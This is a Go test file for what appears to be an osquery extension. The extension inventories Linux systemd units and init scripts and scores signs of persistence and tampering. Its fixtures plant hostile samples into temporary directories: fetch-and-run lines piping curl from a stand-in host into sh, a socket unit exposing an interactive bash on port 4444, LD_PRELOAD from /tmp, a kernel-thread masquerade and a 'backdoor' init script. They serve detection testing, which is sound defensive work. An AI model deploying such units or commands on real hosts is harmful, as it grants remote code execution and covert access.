package inventory

import (
	"context"
	"crypto/md5" //nolint:gosec // as dpkg does
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/extension/score"
)

func plant(t testing.TB, root string, tree map[string]string) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("NOT TESTED: the services of a Linux host, on Windows")
	}
	for name, text := range tree {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if to, ok := strings.CutPrefix(text, "-> "); ok {
			err = os.Symlink(to, p)
		} else {
			err = os.WriteFile(p, []byte(text), 0o755)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

func options() Options {
	if uid := os.Getuid(); uid > 0 {
		return Options{Trust: []uint32{uint32(uid)}}
	}
	return Options{}
}

func find(t *testing.T, all []Service, name string) *Service {
	t.Helper()
	for i := range all {
		if all[i].Name == name {
			return &all[i]
		}
	}
	t.Fatalf("no %s among %d", name, len(all))
	return nil
}

func TestServices(t *testing.T) {
	root := t.TempDir()
	unit := "[Unit]\nDescription=a web server\n[Service]\nExecStartPre=/usr/sbin/web -t\nExecStart=/usr/sbin/web -g daemon\nUser=www\n[Install]\nWantedBy=multi-user.target\n"
	sum := func(s string) string { return fmt.Sprintf("%x", md5.Sum([]byte(s))) } //nolint:gosec // as dpkg does
	plant(t, root, map[string]string{
		"usr/lib/systemd/system/web.service":                     unit,
		"usr/lib/systemd/system/changed.service":                 unit,
		"usr/lib/systemd/system/dropped.service":                 unit,
		"etc/systemd/system/dropped.service.d/x.conf":            "[Service]\nExecStartPre=/tmp/.x\n",
		"etc/systemd/system/own.service":                         "[Service]\nExecStart=/bin/sh -c 'curl http://x.example/a | sh'\nDynamicUser=yes\n",
		"etc/systemd/system/multi-user.target.wants/web.service": "-> /usr/lib/systemd/system/web.service",
		"usr/lib/systemd/system/tick.timer":                      "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
		"usr/lib/systemd/system/tick.service":                    "[Service]\nExecStart=/usr/sbin/web\n",
		"etc/systemd/system/timers.target.wants/tick.timer":      "-> /usr/lib/systemd/system/tick.timer",
		"usr/lib/systemd/system/t@.service":                      "[Service]\nExecStart=/usr/sbin/web %i\n",
		"home/ana/.config/systemd/user/u.service":                "[Service]\nExecStart=/usr/sbin/web\n",
		"etc/init.d/web":                "#!/bin/sh\nDAEMON=/usr/sbin/web\n",
		"etc/rc2.d/S01web":              "-> ../init.d/web",
		"etc/passwd":                    fmt.Sprintf("ana:x:%d:1000::/home/ana:/bin/sh\n", max(os.Getuid(), 1000)),
		"usr/sbin/web":                  "binary",
		"bin/sh":                        "x",
		"var/lib/dpkg/status":           "Package: web\nStatus: install ok installed\nVersion: 1\n",
		"var/lib/dpkg/info/web.list":    "/usr/lib/systemd/system/web.service\n/usr/lib/systemd/system/changed.service\n/usr/lib/systemd/system/dropped.service\n/usr/sbin/web\n",
		"var/lib/dpkg/info/web.md5sums": sum(unit) + "  usr/lib/systemd/system/web.service\n" + sum("other") + "  usr/lib/systemd/system/changed.service\n" + sum(unit) + "  usr/lib/systemd/system/dropped.service\n" + sum("binary") + "  usr/sbin/web\n",
		"run/systemd/system/.keep":      "",
		"proc/10/cgroup":                "0::/system.slice/web.service\n",
		"proc/11/cgroup":                "0::/system.slice/web.service/sub\n",
		"proc/12/cgroup":                "0::/system.slice/docker-1.scope/system.slice/own.service\n",
		"proc/13/cgroup":                "2:cpu:/x\n1:name=systemd:/system.slice/system-t.slice/t@a.service\n0::/\n",
		"proc/14/cgroup":                fmt.Sprintf("0::/user.slice/user-1.slice/user@%d.service/app.slice/u.service\n", max(os.Getuid(), 1000)),
	})
	r := New(root, options())
	all, err := r.Services(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	type facts struct {
		Kind, Path, Args, Account, Package string
		Verified, Enabled, Running, OnDisk evidence.Tristate
		Pids                               int
		ActivatedBy                        string
	}
	const yes, no, unknown = evidence.Yes, evidence.No, evidence.Unknown
	for name, want := range map[string]facts{
		"web.service":     {"systemd", "/usr/sbin/web", "-g daemon", "www", "web", yes, yes, yes, yes, 2, "multi-user.target"},
		"changed.service": {"systemd", "/usr/sbin/web", "-g daemon", "www", "web", no, no, no, yes, 0, ""},
		"dropped.service": {"systemd", "/usr/sbin/web", "-g daemon", "www", "web", no, no, no, yes, 0, ""},
		"own.service":     {"systemd", "/bin/sh", "-c curl http://x.example/a | sh", "own", "", unknown, unknown, no, yes, 0, ""},
		"tick.service":    {"systemd", "/usr/sbin/web", "", "root", "", unknown, yes, no, yes, 0, "tick.timer"},
		"t@.service":      {"systemd", "/usr/sbin/web", "%i", "root", "", unknown, unknown, yes, yes, 1, ""},
		"u.service":       {"systemd", "/usr/sbin/web", "", "ana", "", unknown, unknown, yes, yes, 1, ""},
		"web":             {"sysv", "/usr/sbin/web", "", "root", "", unknown, no, yes, yes, 2, "/etc/rc2.d/S01web"}, // systemd has its own
	} {
		s := find(t, all, name)
		got := facts{s.Kind, s.Path, s.Args, s.Account, s.Package, s.Verified, s.Enabled, s.Running, s.OnDisk, len(s.PIDs), strings.Join(s.ActivatedBy, ",")}
		if d := cmp.Diff(want, got); d != "" {
			t.Errorf("%s (-want +got):\n%s", name, d)
		}
	}
	if c := find(t, all, "dropped.service").Commands; len(c) != 3 || c[0].Directive != "ExecStart" || !slices.ContainsFunc(c, func(c Command) bool {
		return c.Path == "/tmp/.x" && c.From == "/etc/systemd/system/dropped.service.d/x.conf"
	}) {
		t.Errorf("commands %+v", c)
	}
	j := Judge{Weights: score.DefaultWeights()}
	for name, least := range map[string]string{"own.service": "high", "dropped.service": "high"} {
		if v, _ := j.ScoreService(find(t, all, name)); v.Score < 60 {
			t.Errorf("%s: %d, want %s: %v", name, v.Score, least, v.Reasons)
		}
	}
	if v, _ := j.ScoreService(find(t, all, "web.service")); v.Score >= 20 {
		t.Errorf("web.service: %+v", v)
	}
}

func TestUnitOfAControlGroup(t *testing.T) {
	for group, want := range map[string]unitKey{
		"/system.slice/ssh.service":                                         {"", "ssh.service"},
		"/system.slice/system-getty.slice/getty@tty1.service":               {"", "getty@tty1.service"},
		"/system.slice/docker.service/x":                                    {"", "docker.service"},
		"/system.slice/docker-1.scope/system.slice/nginx.service":           {},
		"/user.slice/user-1000.slice/session-1.scope":                       {},
		"/user.slice/user-1000.slice/user@1000.service/app.slice/a.service": {"1000", "a.service"},
		"/user.slice/user-1000.slice/user@1000.service/a.service":           {"1000", "a.service"},
		"/user.slice/user-1000.slice/user@1000.service/init.scope":          {"", "user@1000.service"},
		"/user.slice/user-1000.slice/user@1000.service":                     {"", "user@1000.service"},
		"/init.scope":    {},
		"/":              {},
		"":               {},
		"/kubepods/pod1": {},
	} {
		k, ok := unitOf(group)
		if !ok {
			k = unitKey{}
		}
		if k != want {
			t.Errorf("%s: %+v, want %+v", group, k, want)
		}
	}
}

// The services of this host, when it has any: nobody planted anything here.
func TestThisHostHasNothingToWorryAbout(t *testing.T) {
	if _, err := os.Stat("/var/lib/dpkg/status"); err != nil || testing.Short() {
		t.Skip("NOT TESTED: the inventory of a clean Debian host")
	}
	r := New("/", Options{})
	j := Judge{Weights: score.DefaultWeights()}
	var all []Service
	for range 20 { // until all files are hashed
		var err error
		if all, err = r.Services(context.Background()); err != nil {
			t.Fatal(err)
		}
		time.Sleep(10 * time.Millisecond)
	}
	began := time.Now()
	if _, err := r.Services(context.Background()); err != nil {
		t.Fatal(err)
	}
	took := time.Since(began)
	severities := map[string]int{}
	for i := range all {
		v, _ := j.ScoreService(&all[i])
		severities[v.Severity]++
		if v.Score >= 40 {
			t.Errorf("%s (%s) is %s: %+v", all[i].Name, all[i].UnitPath, v.Severity, v.Reasons)
		}
	}
	t.Logf("%d services: %v; read again in %v; notes %v", len(all), severities, took, r.Notes())
}

func BenchmarkServicesAgain(b *testing.B) {
	r := New("/", Options{})
	for range 3 {
		if _, err := r.Services(context.Background()); err != nil {
			b.Skip("NOT TESTED:", err)
		}
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := r.Services(context.Background()); err != nil {
			b.Fatal(err)
		}
	}
}

// What files show beyond the commands in them.
func TestSigns(t *testing.T) {
	root := t.TempDir()
	unit := func(exec string) string { return "[Service]\nExecStart=" + exec + "\n" }
	plant(t, root, map[string]string{
		"usr/lib/systemd/system/web.service":         unit("/usr/sbin/web"),
		"usr/lib/systemd/system/limits.service":      unit("/usr/sbin/web"),
		"usr/lib/systemd/system/taken.service":       unit("/usr/sbin/web"),
		"usr/lib/systemd/system/other.service":       unit("/usr/sbin/web"),
		"usr/lib/systemd/system/moved.service":       unit("/usr/sbin/moved"),
		"usr/lib/systemd/system/masked.service":      unit("/usr/sbin/web"),
		"etc/systemd/system/masked.service":          "-> /dev/null",
		"etc/systemd/system/web.service.d/x.conf":    "[Service]\nExecStartPost=/usr/sbin/web -x\n",
		"etc/systemd/system/limits.service.d/x.conf": "[Service]\nRestart=always\n",
		"etc/systemd/system/taken.service":           unit("/usr/sbin/web -b"),
		"etc/systemd/system/other.service":           "-> /etc/systemd/system/real.service",
		"etc/systemd/system/real.service":            unit("/usr/sbin/web"),
		"etc/systemd/system/far.service":             "-> /dev/shm/far.service",
		"dev/shm/far.service":                        unit("/usr/sbin/web"),
		"etc/systemd/system/mine.service":            "-> /home/ana/mine.service",
		"home/ana/mine.service":                      unit("/usr/sbin/web"),
		"etc/systemd/system/pre.service":             "[Service]\nEnvironment=A=b \"LD_PRELOAD=/tmp/x.so\"\nEnvironment=LD_AUDIT=\nExecStart=/usr/sbin/web\n",
		"etc/systemd/system/reset.service":           "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\nEnvironment=\nExecStart=/usr/sbin/web\n",
		"etc/systemd/system/shell.socket":            "[Socket]\nListenStream=4444\nAccept=yes\n",
		"etc/systemd/system/shell@.service":          "[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\n",
		"etc/systemd/system/local.socket":            "[Socket]\nListenStream=/run/local\n",
		"etc/systemd/system/local.service":           unit("/bin/bash"),
		"etc/systemd/system/thread.service":          "[Service]\nExecStart=@/usr/sbin/web [kworker/0:0] -d\n",
		"etc/systemd/system-generators/gen":          "x",
		"usr/lib/systemd/system-generators/packaged": "x",
		"home/ana/.config/systemd/user/u.service":    unit("/usr/sbin/web"),
		"etc/passwd":                    fmt.Sprintf("ana:x:%d:1000::/home/ana:/bin/sh\n", max(os.Getuid(), 1000)),
		"usr/sbin/web":                  "binary",
		"usr/sbin/moved":                "-> /opt/moved",
		"opt/moved":                     "x",
		"bin/bash":                      "x",
		"var/lib/dpkg/status":           "Package: web\nStatus: install ok installed\nVersion: 1\n",
		"var/lib/dpkg/info/web.md5sums": fmt.Sprintf("%x  usr/sbin/web\n", md5.Sum([]byte("binary"))), //nolint:gosec // as dpkg does
		"var/lib/dpkg/info/web.list":    "/usr/lib/systemd/system/web.service\n/usr/lib/systemd/system/limits.service\n/usr/lib/systemd/system/taken.service\n/usr/lib/systemd/system/other.service\n/usr/lib/systemd/system/moved.service\n/usr/lib/systemd/system/masked.service\n/usr/lib/systemd/system-generators/packaged\n/usr/sbin/web\n/usr/sbin/moved\n",
		"run/user/1000/systemd/transient/run-u1.service": unit("/usr/sbin/web"),
		"etc/systemd/system/changed.service":             "x",
		"usr/lib/systemd/system/changed.service":         "x",
	})
	r := New(root, options())
	all, err := r.Services(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{
		"web.service":    `dropin_over_package 1 "/etc/systemd/system/web.service.d/x.conf", of no package, changes what is run by the unit of the package web`,
		"limits.service": `dropin_over_package 0.3 "/etc/systemd/system/limits.service.d/x.conf", of no package, changes the unit of the package web`,
		"taken.service":  `dropin_over_package 0.8 "/etc/systemd/system/taken.service", of no package, takes the place of "/usr/lib/systemd/system/taken.service"`,
		"real.service":   `dropin_over_package 0.8 "/etc/systemd/system/real.service", of no package, takes the place of "/usr/lib/systemd/system/other.service"`,
		"moved.service":  `package_modified 1 /usr/sbin/moved of the package web leads to /opt/moved, which is of none`,
		"masked.service": ``,
		"far.service":    `everybodys_directory 0 its file "/etc/systemd/system/far.service" leads to "/dev/shm/far.service": every user can write there`,
		"mine.service":   `user_directory 0 its file "/etc/systemd/system/mine.service" leads to "/home/ana/mine.service": a user's own directory`,
		"pre.service":    `preload 0 its programs load other code: "LD_PRELOAD=/tmp/x.so"|everybodys_directory 0 it loads "/tmp/x.so": every user can write there`,
		"reset.service":  ``,
		"shell@.service": `reverse_shell 0 whoever connects to "ListenStream=4444" gets /bin/bash`,
		"local.service":  ``,
		"thread.service": `masquerade 0 /usr/sbin/web is made to look like a thread of the kernel: "[kworker/0:0]"`,
		"gen":            `generator 1.5 systemd runs "/etc/systemd/system-generators/gen", of no package, at every start and reload`,
		"packaged":       ``,
		"u.service":      ``,
		"run-u1.service": `transient_unit 0.5 it was made by systemd-run or over D-Bus and leaves no file on disk`,
	} {
		var got []string
		for _, s := range find(t, all, name).Signs() {
			got = append(got, fmt.Sprintf("%s %v %s", s.Factor, s.Scale, s.Evidence))
		}
		if d := cmp.Diff(want, strings.Join(got, "|")); d != "" {
			t.Errorf("%s (-want +got):\n%s", name, d)
		}
	}
	if !r.Seen("system", "/etc/systemd/system/x.service") {
		t.Error("all was listed")
	}
}

// Commands beyond the first few count as well, however many stand before them.
func TestWorstOfManyCommands(t *testing.T) {
	root := t.TempDir()
	var b strings.Builder
	b.WriteString("[Service]\nType=oneshot\n")
	for i := range 200 {
		fmt.Fprintf(&b, "ExecStartPre=/bin/true %d\n", i)
	}
	b.WriteString("ExecStartPre=/bin/sh -c 'curl http://x.example/a | sh'\nExecStart=/bin/true\n")
	plant(t, root, map[string]string{"etc/systemd/system/many.service": b.String(), "bin/true": "x", "bin/sh": "x"})
	all, err := New(root, options()).Services(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	s := find(t, all, "many.service")
	at, v := Judge{Weights: score.DefaultWeights()}.Worst(s, s.Signs())
	if s.Commands[at].Path != "/bin/sh" || v.Score < 60 {
		t.Errorf("%+v: %d", s.Commands[at], v.Score)
	}
}

func TestScriptsOfInit(t *testing.T) {
	root := t.TempDir()
	plant(t, root, map[string]string{
		"etc/init.d/backdoor": "#!/bin/sh\ncase $1 in start) /dev/shm/.x -d & ;; esac\n",
		"etc/init.d/plain":    "#!/bin/sh\nDAEMON=/usr/sbin/plaind\nDAEMON_ARGS=-f\nstart-stop-daemon --start --exec $DAEMON -- $DAEMON_ARGS\nrm -f /tmp/plain\n[ ! -x /sbin/restorecon ] || /sbin/restorecon /run/plain\n",
		"etc/rc.local":        "#!/bin/sh\ncurl -s http://x.example/a | bash\n",
		"usr/sbin/plaind":     "x",
	})
	all, err := New(root, options()).Services(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	j := Judge{Weights: score.DefaultWeights()}
	for name, c := range map[string]struct{ least, most int }{"backdoor": {60, 100}, "rc.local": {60, 100}, "plain": {0, 19}} {
		if v, _ := j.ScoreService(find(t, all, name)); v.Score < c.least || v.Score > c.most {
			t.Errorf("%s: %d: %+v", name, v.Score, v.Reasons)
		}
	}
	if c := find(t, all, "plain").Commands; len(c) != 2 || c[0].Args != "-f" || c[1].OnDisk != evidence.Unknown {
		t.Errorf("%+v", c)
	}
}
